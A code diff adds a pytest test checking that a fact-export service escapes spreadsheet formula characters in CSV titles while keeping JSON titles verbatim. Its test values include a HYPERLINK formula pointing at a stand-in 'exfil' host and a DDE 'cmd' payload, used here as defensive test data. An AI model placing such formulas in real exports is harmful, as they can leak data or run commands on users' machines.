@@ -117,6 +117,32 @@ def test_the_library_export_has_a_row_per_document_and_a_column_per_field(
     assert str(second["document_id"]) == str(without_facts) and second["governing_law"] == ""
 
 
+@pytest.mark.parametrize(
+    "title",
+    [
+        '=HYPERLINK("http://x.example/exfil","y")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A2)",
+        "\tTabbed",
+        "\rReturned",
+    ],
+)
+def test_a_csv_cell_that_a_spreadsheet_would_run_is_text(session, tmp_path: Path, title) -> None:
+    document_id, _ = _document_and_job(session, "a")
+    session.get(Document, document_id).title = title
+    session.commit()
+    csv_path, json_path = tmp_path / "facts.csv", tmp_path / "facts.json"
+    fact_service.export_facts(session=session, path=csv_path)
+    fact_service.export_facts(session=session, path=json_path)
+
+    with csv_path.open(newline="", encoding="utf-8") as handle:
+        (row,) = list(csv.DictReader(handle))
+    assert row["title"] == "'" + title  # shown as text, the formula's characters kept
+    assert row["document_id"] == str(document_id)
+    assert json.loads(json_path.read_text(encoding="utf-8"))[0]["title"] == title  # verbatim
+
+
 def test_an_export_to_another_format_is_refused_with_a_sentence(session, tmp_path) -> None:
     with pytest.raises(UnknownExportFormat, match=r"\.csv or \.json, not as a \.xlsx file"):
         fact_service.export_facts(session=session, path=tmp_path / "facts.xlsx")
